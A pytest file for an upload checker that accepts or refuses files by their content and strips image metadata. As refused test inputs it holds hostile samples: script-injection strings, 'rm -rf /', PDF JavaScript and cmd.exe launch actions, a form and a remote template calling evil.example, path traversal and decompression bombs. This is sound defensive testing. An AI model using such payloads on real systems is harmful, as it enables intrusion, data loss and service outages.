"""What is taken and what is not, by what is in a file; and that nothing of a picture but its points is kept."""

import contextlib
import io
import struct

import pytest
from PIL import Image

from isva.files.checking import DOCX, JPEG, ODT, PDF, PNG, TEXT, NotTaken, check_file
from isva.files.receiving import LARGEST
from tests.files import making
from tests.yardstick import yards

#: Twice what the heaviest file takes that is let in; some two seconds where a yard takes 25 ms.
MOST = 80

TAKEN = {
    "a PDF": (making.pdf(), PDF),
    "a PDF with packed objects": (making.pdf_with_objects(b"10 0 << /Type /Page >>"), PDF),
    "a JPEG": (making.picture(), JPEG),
    "a grey JPEG": (making.picture(mode="L"), JPEG),
    "a JPEG for printing": (making.picture(mode="CMYK"), JPEG),
    "a PNG": (making.picture("PNG"), PNG),
    "a PNG that is clear in parts": (making.picture("PNG", mode="RGBA"), PNG),
    "a PNG with a palette": (making.picture("PNG", mode="P"), PNG),
    "text": ("Dear Ada,\r\n\tgrüße\n".encode(), TEXT),
    "text of Notepad": (b"\xef\xbb\xbfDear Ada", TEXT),
    "Word": (making.word(), DOCX),
    "OpenDocument": (making.opendocument(), ODT),
}
NOT_TAKEN = {
    "nothing": b"",
    "too much": b"a" * (LARGEST + 1),
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a page behind spaces": b"  \n<html onload=alert(1)>",
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a drawing told as XML": b'<?xml version="1.0"?><svg/>',
    "a script": b"#!/bin/sh\nrm -rf /",
    "a programme": b"MZ\x90\x00\x03",
    "a programme of Linux": b"\x7fELF\x02\x01",
    "a GIF": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "rich text": b"{\\rtf1 hello}",
    "text with a zero": b"hello\x00world",
    "another alphabet's bytes": "grüße".encode("latin-1"),
    "half a picture": making.picture(size=(400, 300))[:300],
    "a picture by its beginning only": b"\xff\xd8\xff<script>alert(1)</script>",
    "a picture larger than a memory": making.picture("PNG")[:16] + struct.pack("!II", 60_000, 60_000)
    + making.picture("PNG")[24:],
    "half a PDF": making.pdf(end=b""),
    "a PDF with a lock": making.pdf(b"<< /Encrypt 9 0 R >>"),
    "a PDF with a script": making.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "a PDF with a script in disguise": making.pdf(b"<< /S /J#61v#61Script /JS 4 0 R >>"),
    "a PDF that starts a programme": making.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "a PDF with a file in it": making.pdf(b"<< /Type /Filespec /EF << /F 3 0 R >> >> << /Type /EmbeddedFile >>"),
    "a PDF with a form that sends itself": making.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
    "a PDF with a script in a packed object": making.pdf_with_objects(b"10 0 << /S /JavaScript /JS (x) >>"),
    "a PDF packed oddly": making.pdf_with_objects(b"x", filters=b"[/ASCIIHexDecode /FlateDecode]"),
    "a PDF whose packed objects break off": making.pdf_with_objects(b"x").replace(b"\x78\x9c", b"\x78\x00"),
    "a PDF that unpacks to everything": making.pdf_with_objects(b"0" * 60_000_000),
    "Word with macros": making.word(word__vbaProject__bin=b"x").replace(b"vbaProject/bin", b"vbaProject.bin"),
    "Word with a programme inside": making.word(word__embeddings__oleObject1=b"MZ"),
    "Word that says it has macros": making.folder(
        {"[Content_Types].xml": making.WORD_KINDS.replace(b"wordprocessingml.document.main", b"macroEnabled.main"),
         "word/document.xml": b"<w/>"}
    ),
    "Word with a template from elsewhere": making.word(
        word___rels__settings=b"", **{"word/_rels/settings.xml.rels":
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://evil.example/t.dotm" TargetMode="External"/>'},
    ),
    "Word with parts outside itself": making.word(**{"../../etc/passwd": b"x"}),
    "Word that unpacks to everything": making.word(word__media__image=b"0" * 60_000_000),
    "a packed folder of anything": making.folder({"hello.txt": b"hi"}),
    "a spreadsheet": making.folder({"[Content_Types].xml": making.WORD_KINDS, "xl/workbook.xml": b"<x/>"}),
    "OpenDocument with macros": making.opendocument(Basic__script=b"x"),
    "OpenDocument with a lock": making.opendocument(**{"META-INF/manifest.xml": b"<encryption-data/>"}),
    "half a packed folder": making.word()[:200],
    "a packed folder by its beginning only": b"PK\x03\x04" + b"\x00" * 50,
}  # fmt: skip


@pytest.mark.parametrize("name", TAKEN)
def test_what_is_taken(name):
    content, media_type = TAKEN[name]
    assert check_file(content).media_type == media_type


@pytest.mark.parametrize("name", NOT_TAKEN)
def test_what_is_not_taken_is_told_in_words(name):
    refused = []

    def check():
        with pytest.raises(NotTaken) as refusal:
            check_file(NOT_TAKEN[name])
        refused.extend(refusal.value.reasons)

    assert yards(check) < MOST
    assert refused[0]


def test_nothing_is_left_of_where_and_with_what_a_picture_was_taken():
    exif = Image.Exif()
    exif[0x010F], exif[0x0110], exif[0x9286] = "CANARY Camera", "CANARY Phone", "CANARY comment"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (52.0, 13.0, 0.0)
    sent = making.picture(exif=exif, comment=b"CANARY said") + b"CANARY behind it <script>alert(1)</script>"
    kept = check_file(sent).content
    assert b"CANARY" not in kept
    assert b"script" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert dict(picture.getexif()) == {}
        assert "comment" not in picture.info


def test_nothing_is_left_of_what_was_written_into_a_png():
    from PIL.PngImagePlugin import PngInfo

    said = PngInfo()
    said.add_text("Author", "CANARY")
    said.add_itxt("Comment", "CANARY", zip=True)
    kept = check_file(making.picture("PNG", pnginfo=said)).content
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.info == {}


def test_a_picture_taken_sideways_stands_upright():
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(io.BytesIO(check_file(making.picture(size=(40, 30), exif=exif)).content)) as picture:
        assert picture.size == (30, 40)


@pytest.mark.parametrize(
    "content",
    [
        making.picture("PNG", size=(6300, 6300)),
        b"%PDF-1.7\n" + b"/a" * 5_000_000 + b" obj %%EOF",
        b"%PDF-1.7\n" + b"<<" * 5_000_000 + b" obj %%EOF",
        b"%PDF-1.7\n" + b"/ObjStm stream\n endstream " * 380_000 + b" obj %%EOF",
        b"%PDF-1.7\n" + b"/ObjStm stream\n" * 690_000 + b" obj %%EOF",
        b"a" * LARGEST,
    ],
    ids=[
        "a large picture",
        "many names",
        "many beginnings",
        "many streams",
        "streams without an end",
        "a long text",
    ],
)
def test_no_file_keeps_the_service_busy(content):
    def check():
        with contextlib.suppress(NotTaken):
            check_file(content)

    assert yards(check) < MOST
